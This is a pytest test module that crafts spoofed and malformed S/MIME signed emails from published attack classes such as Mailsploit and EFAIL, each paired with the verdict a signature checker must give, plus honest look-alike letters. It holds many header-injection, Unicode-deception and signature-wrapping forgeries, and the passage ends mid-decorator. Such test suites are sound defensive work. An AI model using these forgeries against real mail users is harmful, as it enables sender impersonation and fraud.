"""Published ways to fool readers of signed mail, and the honest letters that look like them.

Each attack has the verdict it must get and its main reason; none is `verified`.  Beside each family
stand honest letters of the same shapes, and all of those are.  (Classes of attacks: "Johnny, you
are fired", "Mailsploit", EFAIL, "mailto: me your secrets", RFC 9788's and RFC 8550's considerations;
the letters are made here.)
"""

import base64
import os
from concurrent.futures import ThreadPoolExecutor

import pytest

import papers
from filedesk import ALICE, BOB, EVE, Desk, openssl
from forge import (
    CONTENT_TYPE, COUNTERSIGNATURE, DATA, MESSAGE_DIGEST, Person, attribute, crlf, detached, dns,
    head, key_id, letter, multipart, oid, opaque, part, rfc822, seal_opaque, sign, signature_part,
    signed_data, signer_info, subject, utf8_mailbox)

PAY = "Please pay 5000 euros to the new account at once."
UNICODE = "gr\u00fc\u00dfe@alpha.test"
IDN, A_LABEL = "alice@b\u00fccher.test", "alice@xn--bcher-kva.test"


def encoded(text):
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


class Bench:
    """Who has which certificate, and the program that judges."""

    def __init__(self, desk):
        self.desk, self.root = desk, desk.authority
        self.reader = BOB
        self.alice = self.person(ALICE)
        self.bob = self.person(BOB)
        self.eve = self.person(EVE)
        self.bob_rsa = desk.add(BOB, "bob-rsa", kind="rsa")
        self.files = papers.save_cert(desk.dir / "a.pem", self.alice.cert), papers.save_bundle(
            desk.dir / "a.key", (self.alice.key, self.alice.cert))
        both = desk.ids["both"] = desk.dir / "both.pem"
        both.write_bytes(b"".join((desk.dir / f"{label}.key").read_bytes() for label in (BOB, self.bob_rsa)))

    def person(self, *addresses, **how):
        return Person(self.root, *(rfc822(each) for each in addresses), **how)

    def inspect(self, octets, *words):
        return self.desk.inspect(octets, "--me", BOB, *words, reader="both")


@pytest.fixture(scope="module")
def bench(program, tmp_path_factory):
    return Bench(Desk(program, tmp_path_factory.mktemp("spoofing")))


ATTACKS, HONEST = [], []


def attack(verdict, reason, *words):
    """`words`: more of the command line."""
    def keep(make):
        ATTACKS.append(pytest.param(make, verdict, reason, words, id=make.__name__))
        return make
    return keep


def honest(make):
    HONEST.append(pytest.param(make, id=make.__name__))
    return make


def each_attack(verdict, reason, values, *words):
    """One row for each of `values`, a table from names to what the row is made with."""
    def keep(make):
        for name, value in values.items():
            ATTACKS.append(pytest.param(lambda b, value=value: make(b, value), verdict, reason,
                                        words, id=f"{make.__name__}[{name}]"))
        return make
    return keep


def each_honest(values):
    def keep(make):
        for name, value in values.items():
            HONEST.append(pytest.param(lambda b, value=value: make(b, value),
                                       id=f"{make.__name__}[{name}]"))
        return make
    return keep


# --- who signed, and who it says it is from -------------------------------------------------------

@attack("caution", "addr.mismatch")
def eve_signs_in_alices_name(b):
    return letter(b.eve, f"Alice <{ALICE}>")


@attack("danger", "addr.mismatch", "--known", ALICE)
def eve_signs_in_the_name_of_somebody_known(b):
    return letter(b.eve, f"Alice <{ALICE}>")


@attack("caution", "addr.sender-only")
def eve_is_sender_only(b):
    return head(ALICE, more=f"Sender: {EVE}\n") + detached(part(), sign(b.eve, part()))


@attack("caution", "addr.mismatch")
def eve_is_reply_to_only(b):
    return head(ALICE, more=f"Reply-To: {EVE}\n") + detached(part(), sign(b.eve, part()))


@attack("caution", "addr.mismatch")
def eve_is_resent_from_only(b):
    more = f"Resent-From: {EVE}\nResent-Sender: {EVE}\n"
    return head(ALICE, more=more) + detached(part(), sign(b.eve, part()))


@attack("caution", "hdr.from-unclear")
def two_from_fields_eve_first(b):
    return head(f"{EVE}\r\nFrom: {ALICE}") + detached(part(), sign(b.eve, part()))


@attack("caution", "hdr.from-unclear")
def two_from_fields_eve_last(b):
    return head(f"{ALICE}\r\nFrom: {EVE}") + detached(part(), sign(b.eve, part()))


@attack("caution", "hdr.from-unclear")
def two_from_fields_that_are_equal(b):
    return head(f"{ALICE}\r\nfrom: {ALICE}") + detached(part(), sign(b.alice, part()))


@attack("caution", "hdr.from-unclear")
def no_from_field(b):
    return head(EVE).replace(b"From", b"X-From") + detached(part(), sign(b.eve, part()))


@each_attack("caution", "addr.several", {
    "eve first": f"{EVE}, {ALICE}", "eve last": f"{ALICE}, {EVE}", "named": f"Alice <{ALICE}>, Bob <{EVE}>",
    "twice": f"{EVE}, {EVE}, {ALICE}"})
def two_mailboxes(b, sender):
    return letter(b.eve, sender)


@each_attack("caution", "hdr.from-unclear", {
    "group": f"Alice: {EVE};", "empty group": "undisclosed:;", "group and mailbox": f"{EVE}, x: {ALICE};",
    "two angles": f"<{ALICE}> <{EVE}>", "name is bare": f"{ALICE} <{EVE}>",
    "angle in angle": f"<{ALICE}<{EVE}>>", "trailing text": f"<{EVE}> {ALICE}",
    "trailing angle": f"{EVE} <{ALICE}>", "semicolon": f"{EVE}; {ALICE}", "two at": "eve@beta.test@alpha.test",
    "no at": "alice", "empty": "", "empty angle": "Alice <>", "open quote": f'"Alice <{EVE}>',
    "open angle": f"Alice <{EVE}", "open comment": f"{EVE} (Alice", "blank": " ",
    "8-bit garbage": b"Alice\xff\xfe <eve@beta.test\xff>",
    "encoded word is the address": f"=?utf-8?q?{ALICE.replace('@', '=40')}?=",
    "encoded word and at": "=?utf-8?q?alice=40alpha.test=00?=@beta.test",
    "encoded angle in front": f"=?utf-8?q?Alice_=3Calice=40alpha.test=3E?= {EVE}",
    "route": f"<@alpha.test,{EVE}>",
    "trailing dot": "eve@beta.test.", "line of blanks": f"\r\n \r\n\t{EVE}"})
def from_that_readers_read_otherwise(b, sender):
    return letter(b.eve, sender)


@attack("caution", "hdr.from-unclear")
def encoded_word_as_local_part(b):
    """Mailsploit: the certificate says the same letters, a program that decodes shows Alice's."""
    local = "=?utf-8?b?" + base64.b64encode(ALICE.encode()).decode() + "?="
    return letter(b.person(f"{local}@beta.test"), f"{local}@beta.test")


NAMES = {
    "quoted": f'"{ALICE}" <{EVE}>', "encoded": f"=?utf-8?q?alice=40alpha.test?= <{EVE}>",
    "base64": f"{encoded(ALICE)} <{EVE}>",
    "with angle": f'"Alice <{ALICE}>" <{EVE}>', "and spaces": f'"{ALICE}                  " <{EVE}>',
    "folded": f'"{ALICE}"\r\n\t<{EVE}>',
    "comment": f"{EVE} ({ALICE})", "comment with angle": f"{EVE} (Alice <{ALICE}>)",
    "comment in front": f"({ALICE}) {EVE}", "comment and name": f"Alice ({ALICE}) <{EVE}>",
    "comment behind": f"Alice <{EVE}> ({ALICE})", "wide sign": f"{encoded(ALICE.replace('@', chr(0xff20)))} <{EVE}>",
    "small sign": f"{encoded(ALICE.replace('@', chr(0xfe6b)))} <{EVE}>", "cut off by NUL": f"=?utf-8?q?alice=40alpha.test=00?= <{EVE}>",
    "line in it": f"=?utf-8?q?Alice_=3Calice=40alpha.test=3E=0A?= <{EVE}>"}


@each_attack("caution", "addr.name-is-address", NAMES)
def the_name_is_another_address(b, sender):
    return letter(b.eve, sender)


@each_attack("danger", "addr.name-is-address", NAMES, "--known", ALICE)
def the_name_is_the_address_of_somebody_known(b, sender):
    return letter(b.eve, sender)


@attack("danger", "addr.deceptive")
def the_name_is_written_backwards(b):
    return letter(b.eve, f"{encoded(chr(0x202e) + 'tset.ahpla@ecila')} <{EVE}>")


@attack("danger", "addr.name-of-organisation")
def the_name_holds_what_shows_nothing(b):
    return letter(b.eve, f"{encoded('Pay' + chr(0x200b) + 'Pal')} <{EVE}>")


@each_attack("caution", "addr.mismatch", {
    "quoted at": '"eve@beta.test"@alpha.test', "quoted angle": '"<eve@beta.test>"@alpha.test',
    "percent": "eve%beta.test@alpha.test", "plus": "eve+alice@beta.test", "dot": "e.ve@beta.test",
    "sub-domain": "eve@x.beta.test", "domain above": "eve@test",
    "blank in quotes": '"eve "@beta.test', "route": f"<@beta.test:{ALICE}>",
    "source": "eve!alice@alpha.test",
    "literal": "eve@[127.0.0.1]", "dotless i": "\u0131ve@beta.test"})
def nearly_eves_address(b, sender):
    return letter(b.eve, sender)


@attack("caution", "addr.mismatch")
def a_bare_line_end_in_from(b):
    """To a reader that takes a bare LF for a line end a second field; to us the field ends there."""
    return head(f"{ALICE}\nX-Was: {EVE}") + detached(part(), sign(b.eve, part()))


@each_attack("unsigned", "letter.unreadable", {
    "NUL": f"Alice <{ALICE}>\0<{EVE}>", "NUL at the end": f"{EVE}\0", "bare CR": f"{EVE}\rFrom: {ALICE}"})
def control_characters_in_from(b, sender):
    return letter(b.eve, sender)


@attack("caution", "hdr.from-unclear")
def a_second_from_behind_an_obsolete_blank(b):
    return head(f"{EVE}\r\nFrom : {ALICE}") + detached(part(), sign(b.eve, part()))


@attack("unsigned", "sig.none")
def a_second_from_behind_a_line_that_is_no_field(b):
    return head(f"{EVE}\r\nrubbish\r\nFrom: {ALICE}") + detached(part(), sign(b.eve, part()))


@attack("caution", "hdr.from-unclear")
def a_folded_line_of_blanks_hides_a_from(b):
    """Half of the readers end the header at a line of blanks."""
    return head(f"{EVE}\r\n \r\nFrom: {ALICE}") + detached(part(), sign(b.eve, part()))


@attack("unsigned", "sig.none")
def a_header_that_begins_with_an_empty_line(b):
    return b"\r\n" + letter(b.eve, ALICE)


@honest
def plain_smime(b):
    return letter(b.alice, f"Alice Adams <{ALICE}>")


@each_honest({
    "bare": ALICE, "angle": f"<{ALICE}>", "quoted name": f'"Adams, Alice" <{ALICE}>',
    "comment": f"{ALICE} (Alice)", "comment with dots": f"Alice (Sales Dept.) <{ALICE}>",
    "encoded": f"=?utf-8?q?Alic=C3=A9?= <{ALICE}>",
    "two encoded words": f"=?utf-8?q?Alic=C3=A9?=\r\n =?utf-8?b?QWRhbXM=?= <{ALICE}>",
    "latin": f"=?iso-8859-1?q?Alic=E9?= <{ALICE}>", "raw": f"Alic\u00e9 <{ALICE}>",
    "upper case": f"Alice <{ALICE.upper()}>", "mixed case": "Alice@Alpha.Test",
    "folded": f"Alice\r\n <{ALICE}>", "folded twice": f"\r\n\tAlice\r\n\t<{ALICE}>",
    "quoted local part": '"alice"@alpha.test', "own address as name": f'"{ALICE}" <{ALICE}>',
    "own address as name, other case": f'"Alice@Alpha.test" <{ALICE}>',
    "blanks": f"Alice    <{ALICE}>  ", "no blank": f"Alice<{ALICE}>", "name with a dot": f"Alice B. Adams <{ALICE}>",
    "chinese": f"=?gb2312?B?s8LQobar?= <{ALICE}>", "own address in a comment": f"Alice ({ALICE}) <{ALICE}>",
    "name with at": f'"Alice @ Alpha" <{ALICE}>', "empty name": f'"" <{ALICE}>'})
def an_ordinary_from(b, sender):
    return letter(b.alice, sender)


@honest
def folded_header_names_in_capitals(b):
    return (crlf(f"FROM: {ALICE}\nTO: {BOB}\nSUBJECT: hello\nMIME-VERSION: 1.0\n")
            + detached(part(), sign(b.alice, part())))


@honest
def sender_beside_a_from_that_signs(b):
    more = f"Sender: {EVE}\nReply-To: list@beta.test\n"
    return head(ALICE, more=more) + detached(part(), sign(b.alice, part()))


# --- what the certificate says --------------------------------------------------------------------

@each_attack("caution", "addr.none", {
    "NUL": b"alice@alpha.test\0.evil.test", "blank in front": " alice@alpha.test",
    "blank behind": "alice@alpha.test ", "angle": "<alice@alpha.test>", "name": "Alice <alice@alpha.test>",
    "two": "alice@alpha.test,eve@beta.test", "line end": "alice@alpha.test\n", "domain": "alpha.test", "at domain": "@alpha.test", "empty": "", "percent": "alice%40alpha.test",
    "mailto": "mailto:alice@alpha.test", "8-bit": "alice@alpha.test\u0080", "comment": "alice(x)@alpha.test",
    "two at": "eve@x@alpha.test", "trailing dot": "alice@alpha.test.", "U-label": "alice@b\u00fccher.test"})
def an_address_that_is_none(b, name):
    """Whatever is not exactly an address binds nothing."""
    return letter(Person(b.root, rfc822(name)), ALICE)


@each_attack("caution", "addr.none", {
    "common name": ("cn", ALICE), "organization": ("o", ALICE)})
def the_address_stands_where_names_do(b, entry):
    key, value = entry
    return letter(Person(b.root, name=subject(**{key: value})), ALICE)


@attack("caution", "addr.none")
def the_address_is_a_dns_name(b):
    return letter(Person(b.root, dns(ALICE), dns("alpha.test")), ALICE)


@attack("caution", "addr.none")
def ascii_in_smtp_utf8_mailbox(b):
    """RFC 9598: it never equals an rfc822Name."""
    return letter(Person(b.root, utf8_mailbox(ALICE)), ALICE)


@attack("caution", "addr.mismatch")
def a_common_name_beside_another_address(b):
    return letter(Person(b.root, rfc822(EVE), name=subject(cn=f"Alice <{ALICE}>")), ALICE)


@attack("caution", "addr.mismatch")
def upper_case_in_smtp_utf8_mailbox(b):
    return letter(Person(b.root, utf8_mailbox(UNICODE)), UNICODE.replace("\u00fc", "\u00dc"))


@attack("caution", "addr.mismatch")
def the_decomposed_form_in_smtp_utf8_mailbox(b):
    return letter(Person(b.root, utf8_mailbox(UNICODE)), UNICODE.replace("\u00fc", "u\u0308"))


@each_attack("unsigned", "cert.ku", {
    "encrypting only": {"usage": papers.usage(key_agreement=True)},
    "authority": {"usage": papers.usage(key_cert_sign=True, crl_sign=True), "ca": True}})
def not_for_signing(b, how):
    return letter(b.person(ALICE, **how), ALICE)


@attack("unsigned", "cert.ku")
def a_server_certificate(b):
    return letter(b.person(ALICE, eku=[papers.ExtendedKeyUsageOID.SERVER_AUTH]), ALICE)


@attack("unsigned", "cert.ku")
def an_authority_as_a_person(b):
    usage = papers.usage(digital_signature=True, key_cert_sign=True)
    return letter(b.person(ALICE, ca=True, usage=usage), ALICE)


@each_attack("caution", "cert.expired-at-time", {"expired": (-30, -1)})
def at_the_wrong_time(b, span):
    return letter(b.person(ALICE, begins=span[0], ends=span[1]), ALICE)


@attack("caution", "cert.not-yet-valid")
def before_its_time(b):
    return letter(b.person(ALICE, begins=1, ends=30), ALICE)


@attack("caution", "chain.no-anchor")
def self_signed(b):
    own = papers.Authority(ALICE)
    return letter(Person(own, rfc822(ALICE)), ALICE)


@attack("caution", "cert.signature")
def an_authority_of_the_same_name(b):
    """It says to be issued by the trusted root, and was not."""
    return letter(Person(papers.Authority("Test root"), rfc822(ALICE)), ALICE)


@attack("caution", "cert.not-a-ca")
def issued_by_a_person(b):
    """Eve's own certificate is no authority's."""
    class Self:
        name, key = b.eve.cert.subject, b.eve.key
    forged = Person(Self, rfc822(ALICE))
    der = signed_data([signer_info(forged, part())], [forged, b.eve])
    return head(ALICE) + detached(part(), der)


@each_honest({
    "several": [rfc822("a@alpha.test"), rfc822(ALICE), rfc822("z@alpha.test")],
    "upper case": [rfc822("Alice@ALPHA.test")], "beside a DNS name": [dns("alpha.test"), rfc822(ALICE)],
    "beside a broken one": [rfc822("alpha.test"), rfc822(ALICE)], "quoted": [rfc822('"alice"@alpha.test')]})
def names_in_the_certificate(b, names):
    return letter(Person(b.root, *names), ALICE)


@honest
def email_address_in_the_subject(b):
    return letter(Person(b.root, name=subject(cn="Alice", email=ALICE)), ALICE)


@honest
def a_utf8_mailbox(b):
    return letter(Person(b.root, utf8_mailbox(UNICODE)), UNICODE)


@each_honest({"U-label": IDN, "A-label": A_LABEL, "upper case": A_LABEL.upper(),
              "named": f"Alice <{IDN}>"})
def international_domain(b, sender):
    return letter(b.person(A_LABEL), sender)


@each_honest({"none": (), "any": [papers.ExtendedKeyUsageOID.ANY_EXTENDED_KEY_USAGE],
              "mail and login": [papers.ExtendedKeyUsageOID.CLIENT_AUTH,
                                 papers.ExtendedKeyUsageOID.EMAIL_PROTECTION]})
def extended_key_usage(b, eku):
    return letter(b.person(ALICE, eku=eku), ALICE)


@honest
def non_repudiation_only(b):
    return letter(b.person(ALICE, usage=papers.usage(content_commitment=True)), ALICE)


# --- the signature itself -------------------------------------------------------------------------

@attack("unsigned", "sig.digest-mismatch")
def another_text(b):
    return head(ALICE) + detached(part(PAY), sign(b.alice, part()))


@attack("unsigned", "sig.digest-mismatch")
def a_digest_of_something_else(b):
    return letter(b.alice, ALICE, says=b"\0" * 32)


@attack("unsigned", "sig.invalid")
def a_bit_of_the_signature(b):
    return letter(b.alice, ALICE, spoil=True)


@attack("unsigned", "sig.invalid")
def by_another_key_than_it_says(b):
    eve = type("Eve", (), {"key": b.eve.key, "cert": b.alice.cert})
    der = signed_data([signer_info(eve, part())], [b.alice])
    return head(ALICE) + detached(part(), der)


@attack("unsigned", "sig.no-attributes")
def without_attributes(b):
    """Such a signature can be moved: over attributes, taken for a content."""
    return letter(b.alice, ALICE, attributes=False)


@attack("unsigned", "sig.attr-missing")
def without_content_type(b):
    return letter(b.alice, ALICE, content_type=None)


@attack("unsigned", "sig.invalid")
def with_another_content_type(b):
    return letter(b.alice, ALICE, content_type="1.2.840.113549.1.7.3")


@attack("unsigned", "sig.invalid")
def two_message_digests(b):
    return letter(b.alice, ALICE, more=[attribute(MESSAGE_DIGEST, b"\x04\x20" + b"\0" * 32)])


@attack("unsigned", "sig.invalid")
def two_content_types(b):
    return letter(b.alice, ALICE, more=[attribute(CONTENT_TYPE, oid("1.2.840.113549.1.7.3"))])


@each_attack("unsigned", "sig.alg-weak", {"MD5": "md5", "SHA-1": "sha1"})
def a_weak_digest(b, digest):
    person = b.person(ALICE, kind="rsa")
    return letter(person, ALICE, digest=digest)


@attack("unsigned", "sig.alg-weak")
def a_short_key(b):
    key = papers.rsa.generate_private_key(public_exponent=65537, key_size=1024)
    return letter(b.person(ALICE, key=key), ALICE)


@attack("unsigned", "sig.none")
def no_signer(b):
    return head(ALICE) + detached(part(), signed_data([], [b.alice]))


@attack("unsigned", "sig.none")
def no_signer_opaque(b):
    return head(ALICE) + opaque(signed_data([], [b.alice], part()))


@attack("unsigned", "sig.none")
def certificates_only(b):
    kind = "application/pkcs7-mime; smime-type=certs-only; name=smime.p7c"
    return head(ALICE) + opaque(signed_data([], [b.alice]), kind)


@attack("unsigned", "sig.no-certificate")
def no_certificate(b):
    return head(ALICE) + detached(part(), signed_data([signer_info(b.alice, part())], []))


@attack("unsigned", "sig.unreadable")
def content_inside_beside_content_outside(b):
    """Opaque to one reader, detached to the other: each sees another letter."""
    return head(ALICE) + detached(part(PAY), seal_opaque(b.alice, part()))


@attack("unsigned", "sig.unreadable")
def content_inside_equal_to_that_outside(b):
    return head(ALICE) + detached(part(), seal_opaque(b.alice, part()))


@attack("unsigned", "sig.digest-mismatch")
def opaque_without_content(b):
    return head(ALICE) + opaque(sign(b.alice, part()))


@attack("unsigned", "sig.digest-mismatch")
def opaque_with_empty_content(b):
    der = signed_data([signer_info(b.alice, part())], [b.alice], b"")
    return head(ALICE) + opaque(der)


@attack("unsigned", "sig.unreadable")
def signed_data_in_signed_data_by_type(b):
    """The content's type says that it is a signature again, which nobody shows."""
    der = signed_data([signer_info(b.alice, part())], [b.alice], part(),
                      content_type="1.2.840.113549.1.7.2")
    return head(ALICE) + opaque(der)


@attack("caution", "addr.mismatch")
def eves_signature_and_alices_certificate(b):
    der = signed_data([signer_info(b.eve, part())], [b.alice, b.eve])
    return head(ALICE) + detached(part(), der)


@attack("caution", "addr.mismatch")
def eves_signature_and_alices_broken_one(b):
    infos = [signer_info(b.alice, part(), spoil=True), signer_info(b.eve, part())]
    return head(ALICE) + detached(part(), signed_data(infos, [b.alice, b.eve]))


@attack("caution", "addr.mismatch")
def eves_signature_and_alices_of_another_letter(b):
    infos = [signer_info(b.alice, part("yes")), signer_info(b.eve, part())]
    return head(ALICE) + detached(part(), signed_data(infos, [b.alice, b.eve]))


@attack("caution", "addr.mismatch")
def alices_is_a_countersignature(b):
    """Over Eve's signature: Alice need not have seen the letter."""
    first = signer_info(b.eve, part())
    value = first[-80:]
    counter = attribute(COUNTERSIGNATURE, signer_info(b.alice, value, content_type=None))
    der = signed_data([signer_info(b.eve, part(), unsigned=[counter])], [b.alice, b.eve])
    return head(ALICE) + detached(part(), der)


@attack("caution", "sig.several")
def alices_signature_and_eves_broken_one(b):
    infos = [signer_info(b.alice, part()), signer_info(b.eve, part(), spoil=True)]
    return head(ALICE) + detached(part(), signed_data(infos, [b.alice, b.eve]))


@attack("caution", "sig.several")
def alices_signature_and_one_of_an_unknown(b):
    infos = [signer_info(b.alice, part()), signer_info(b.eve, part())]
    return head(ALICE) + detached(part(), signed_data(infos, [b.alice]))


@attack("unsigned", "sig.unreadable")
def rubbish_behind_the_signature(b):
    return head(ALICE) + detached(part(), sign(b.alice, part()) + b"rubbish")


@attack("unsigned", "sig.unreadable")
def a_signature_that_is_cut(b):
    return head(ALICE) + detached(part(), sign(b.alice, part())[:-40])


@attack("unsigned", "sig.unreadable")
def an_empty_signature(b):
    return head(ALICE) + detached(part(), b"")


@each_honest({"issuer and serial": None, "key id": key_id})
def named_signer(b, sid):
    return letter(b.alice, ALICE, sid=sid and sid(b.alice.cert))


@each_honest({"SHA-256": ("sha256", "sha-256"), "SHA-384": ("sha384", "sha-384"),
              "SHA-512": ("sha512", "sha-512"), "old name": ("sha256", "sha256"),
              "wrong name": ("sha256", "sha1"), "none": ("sha256", '""')})
def digests(b, how):
    digest, micalg = how
    return head(ALICE) + detached(part(), sign(b.alice, part(), digest=digest), micalg=micalg)


@honest
def rsa(b):
    return letter(b.person(ALICE, kind="rsa"), ALICE)


@honest
def two_keys_of_alice(b):
    """RSA for old readers, an elliptic curve for new ones."""
    second = b.person(ALICE, kind="rsa")
    infos = [signer_info(b.alice, part()), signer_info(second, part())]
    return head(ALICE) + detached(part(), signed_data(infos, [b.alice, second]))


@honest
def alice_and_bob_both(b):
    """Who a letter is from is said by From."""
    infos = [signer_info(b.bob, part()), signer_info(b.alice, part())]
    return head(ALICE) + detached(part(), signed_data(infos, [b.bob, b.alice]))


@honest
def countersigned(b):
    counter = attribute(COUNTERSIGNATURE, signer_info(b.bob, b"x" * 70, content_type=None))
    der = signed_data([signer_info(b.alice, part(), unsigned=[counter])], [b.alice, b.bob])
    return head(ALICE) + detached(part(), der)


@honest
def certificates_that_have_nothing_to_do_with_it(b):
    der = signed_data([signer_info(b.alice, part())], [b.eve, b.bob, b.alice])
    return head(ALICE) + detached(part(), der)


@each_honest({
    "usual": "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m",
    "outlook": 'application/x-pkcs7-mime;\n\tsmime-type=signed-data;\n\tname="smime.p7m"',
    "no name": "application/pkcs7-mime; smime-type=signed-data", "no type": "application/pkcs7-mime",
    "capitals": "Application/PKCS7-MIME; SMIME-TYPE=Signed-Data",
    "octet-stream": "application/octet-stream; name=smime.p7m",
    "wrong type": "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m"})
def opaque_as_programs_label_it(b, kind):
    return head(ALICE) + opaque(seal_opaque(b.alice, part()), kind)


@each_honest({
    "usual": "application/pkcs7-signature; name=smime.p7s", "old": "application/x-pkcs7-signature",
    "no name": "application/pkcs7-signature", "capitals": "APPLICATION/X-PKCS7-SIGNATURE; NAME=SMIME.P7S",
    "smime-type": "application/pkcs7-signature; smime-type=signed-data; name=smime.p7s"})
def signature_as_programs_label_it(b, kind):
    return head(ALICE) + detached(part(), sign(b.alice, part()), kind=kind)


@each_honest({"html": "text/html; charset=utf-8", "no text": "application/pdf; name=x.pdf"})
def other_contents(b, kind):
    entity = part("<p>hello</p>", kind)
    return letter(b.alice, ALICE, entity)


@each_honest({
    "mixed": "mixed", "alternative": "alternative", "related": "related", "report": "report"})
def signed_multiparts(b, kind):
    entity = multipart([part(), part("<p>hello</p>", "text/html"),
                        part("x", "image/png", Content_ID="<a>")], kind, "=_inner")
    return letter(b.alice, ALICE, entity.rstrip(b"\r\n"))


@honest
def a_preamble_as_programs_write_it(b):
    return head(ALICE) + detached(part(), sign(b.alice, part()),
                                  preamble="This is an S/MIME signed message\n")


@each_honest({"thunderbird": "------------ms020504030201060708090103",
              "outlook": "----=_NextPart_000_0011_01DA1C2B.9F3C1A20",
              "apple": "Apple-Mail=_B5C4C1B1-0A6E-4C1E-9D1B-6C8E5A1F1E1D",
              "digest of both": "_004_AM0PR0402MB3395F1_", "blank in it": "a b c"})
def boundaries_of_programs(b, boundary):
    return head(ALICE) + detached(part(), sign(b.alice, part()), boundary)


@honest
def lines_that_end_in_lf_only(b):
    return letter(b.alice, ALICE).replace(b"\r\n", b"\n")


@honest
def opaque_lines_that_end_in_lf_only(b):
    return (head(ALICE) + opaque(seal_opaque(b.alice, part()))).replace(b"\r\n", b"\n")


@honest
def signed_twice_by_alice(b):
    inner = detached(part(), sign(b.alice, part()), "=_inner").rstrip(b"\r\n")
    return head(ALICE) + detached(inner, sign(b.alice, inner))


# --- what of it is signed ---------------------------------------------------------------------------

def signed_part(b, person=None, text="Good morning."):
    person = person or b.alice
    return detached(part(text), sign(person, part(text)), "=_signed").rstrip(b"\r\n")


@attack("caution", "sig.partial")
def a_footer_behind_a_signed_part(b):
    return head(ALICE) + multipart([signed_part(b), part("-- \nThe list")])


@attack("caution", "sig.partial")
def a_text_in_front_of_a_signed_part(b):
    return head(ALICE) + multipart([part(PAY), signed_part(b)])


@each_attack("caution", "sig.partial", {
    "related": "related", "alternative": "alternative", "digest-like": "x-unknown", "signed by name": "report",
    "parallel": "parallel"})
def a_signed_part_among_others(b, kind):
    html = part(f'<p>{PAY}</p><img src="cid:signed">', "text/html")
    return head(ALICE) + multipart([html, signed_part(b)], kind)


@attack("caution", "sig.partial")
def a_signed_part_alone_in_a_wrapper(b):
    """Nothing else is shown, and yet the wrapper is anybody's: lists make such letters."""
    return head(ALICE) + multipart([signed_part(b)])


@attack("caution", "sig.partial")
def a_signed_part_that_is_deep(b):
    inside = multipart([part(PAY, "text/html"), signed_part(b)], "related", "=_deep").rstrip(b"\r\n")
    return head(ALICE) + multipart([part(PAY), inside])


@attack("caution", "sig.partial")
def one_branch_of_alternatives_is_signed(b):
    return head(ALICE) + multipart([signed_part(b), part(PAY, "text/html")], "alternative")


@attack("caution", "sig.partial")
def signed_parts_twice(b):
    return head(ALICE) + multipart([signed_part(b), part(PAY), signed_part(b)])


@attack("caution", "addr.mismatch")
def eves_part_and_then_alices(b):
    second = detached(part(), sign(b.alice, part()), "=_two").rstrip(b"\r\n")
    return head(ALICE) + multipart([signed_part(b, b.eve, PAY), second])


@attack("unsigned", "sig.none")
def a_signed_letter_as_an_attachment(b):
    inner = crlf("Content-Type: message/rfc822\n\n") + letter(b.alice, ALICE).rstrip(b"\r\n")
    return head(ALICE) + multipart([part(PAY), inner])


@attack("unsigned", "sig.none")
def a_signed_letter_as_the_only_part(b):
    return head(ALICE) + crlf("Content-Type: message/rfc822\n\n") + letter(b.alice, ALICE)


@attack("unsigned", "sig.none")
def an_opaque_letter_as_an_attachment(b):
    return head(ALICE) + multipart([part(PAY), opaque(seal_opaque(b.alice, part())).rstrip(b"\r\n")])


@attack("unsigned", "sig.none")
def a_signature_as_an_attachment(b):
    return head(ALICE) + multipart([part(), signature_part(sign(b.alice, part()))])


@attack("unsigned", "sig.unreadable")
def a_third_part_in_multipart_signed(b):
    return head(ALICE) + detached(part(), sign(b.alice, part()), more=[part(PAY)])


@attack("unsigned", "sig.unreadable")
def a_text_in_front_in_multipart_signed(b):
    octets = detached(part(), sign(b.alice, part()), "=_s")
    return head(ALICE) + octets.replace(b"--=_s\r\n", b"--=_s\r\n" + part(PAY) + b"\r\n--=_s\r\n", 1)


@attack("unsigned", "sig.none")
def multipart_signed_that_is_pgp(b):
    """OpenPGP's frame around an S/MIME signature, or the other way round: neither is believed."""
    octets = detached(part(), sign(b.alice, part()), kind="application/pgp-signature")
    return head(ALICE) + octets.replace(b"application/pkcs7-signature\"", b"application/pgp-signature\"")


@honest
def a_long_text_in_the_preamble(b):
    """No MIME reader shows it."""
    return head(ALICE) + detached(part(), sign(b.alice, part()), preamble=PAY + "\n" * 3)


@attack("caution", "letter.ambiguous")
def two_content_types_opaque(b):
    """The one reader sees what is signed, the other the text around it."""
    return (head(ALICE) + opaque(seal_opaque(b.alice, part()))).replace(
        b"\r\nContent-Transfer", b"\r\nContent-Type: text/html\r\nContent-Transfer", 1)


@attack("unsigned", "sig.unreadable")
def two_content_types_detached(b):
    octets = head(ALICE) + detached(part(), sign(b.alice, part()))
    return octets.replace(b"\r\n\r\n", b"\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n", 1)


@attack("unsigned", "sig.none")
def two_content_types_mixed_first(b):
    octets = head(ALICE) + detached(part(), sign(b.alice, part()), "=_a")
    return octets.replace(b"MIME-Version", b"Content-Type: text/plain\r\nMIME-Version", 1)


# --- MIME that two programs read otherwise ----------------------------------------------------------

def spoiled(b, old, new, count=1):
    """A signed letter, with bytes around what is signed that are other than they should be."""
    octets = head(ALICE) + detached(part(), sign(b.alice, part()), "=_s")
    assert old in octets
    return octets.replace(old, new, count)


@each_attack("unsigned", "sig.unreadable", {
    "a part behind the end": (b"--=_s--\r\n", b"--=_s--\r\n--=_s\r\n" + part(PAY) + b"\r\n--=_s--\r\n"),
    "a delimiter behind a bare CR": (b"Good morning.", b"Good\r--=_s\r\n\r\nmorning."),
    "a longer delimiter": (b"Good morning.", b"Good\r\n--=_sx\r\n\r\nmorning."),
    "no end": (b"--=_s--\r\n", b""), "an end too early": (b"\r\n--=_s\r\n", b"\r\n--=_s--\r\n\r\n--=_s\r\n"),
    "an encoding of the whole": (b"MIME-Version: 1.0", b"MIME-Version: 1.0\r\nContent-Transfer-Encoding: base64"),
    "no boundary": (b'boundary="=_s"', b'x-boundary="=_s"')})
def frames_that_programs_read_otherwise(b, change):
    return spoiled(b, *change)


@each_attack("unsigned", "sig.digest-mismatch", {
    "header of the part": (b"Content-Type: text/plain", b"Content-Type: text/html"),
    "a field of the part": (b"Content-Type: text/plain", b"Content-Disposition: attachment\r\nContent-Type: text/plain"),
    "NUL": (b"Good morning.", b"Good\0morning."), "a bare CR": (b"Good morning.", b"Good\rmorning."),
    "a bare LF": (b"Good morning.", b"Good\nmorning."), "a blank": (b"Good morning.\r\n", b"Good morning. \r\n"),
    "a line more": (b"Good morning.\r\n", b"Good morning.\r\n\r\n"),
    "case": (b"charset", b"Charset")})
